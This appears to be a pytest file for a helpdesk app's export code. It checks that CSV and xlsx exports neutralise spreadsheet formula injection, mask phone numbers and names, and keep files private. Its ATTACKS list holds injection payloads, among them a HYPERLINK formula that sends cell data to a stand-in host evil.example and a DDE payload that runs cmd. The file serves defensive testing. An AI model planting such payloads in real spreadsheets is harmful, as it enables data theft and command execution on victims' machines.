"""Exports: formula-like cells are text (CSV and xlsx), free text is masked, files private."""

from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from helpdesk_gui.domain.complaints.models import Complaint
from helpdesk_gui.services.ledger import exports
from helpdesk_gui.services.security.cells import csv_cell, csv_row

from .conftest import complaint_ticket

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(cdb, clerk):
    ticket = complaint_ticket(clerk, subject="账单有误", phone="13812341234", name="张伟")
    from helpdesk_gui.services.complaints import process

    process.open_for_ticket(ticket.id, clerk)
    Complaint.update(matter=ATTACKS[0], remedy="联系我13912345678，张伟本人，或 " + ATTACKS[1]
                     ).execute()
    return ticket


@pytest.mark.parametrize("value", ATTACKS)
def test_every_formula_start_is_written_as_text_in_csv(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell("水费=100") == "水费=100" and csv_cell(12) == 12
    assert csv_row([value, "水费=100", 12, None]) == ["'" + value, "水费=100", 12, None]


def test_csv_export_neutralises_formulas_and_masks_free_text(hostile, tmp_path):
    out = tmp_path / "c.csv"
    exports.export("complaints", out)
    with out.open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    matter, remedy = rows[1][6], rows[1][7]
    assert matter == "'" + ATTACKS[0]
    assert "13912345678" not in remedy and "139****5678" in remedy
    assert "张伟" not in remedy and "张*" in remedy
    assert oct(out.stat().st_mode & 0o777) == "0o600"


def test_xlsx_export_writes_formulas_as_string_cells(hostile, tmp_path):
    out = tmp_path / "c.xlsx"
    exports.export("complaints", out)
    sheet = load_workbook(out).active
    cell = sheet["G2"]
    assert cell.data_type == "s" and cell.value == ATTACKS[0]
    with zipfile.ZipFile(out) as book:
        raw = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in raw
    assert oct(out.stat().st_mode & 0o777) == "0o600"
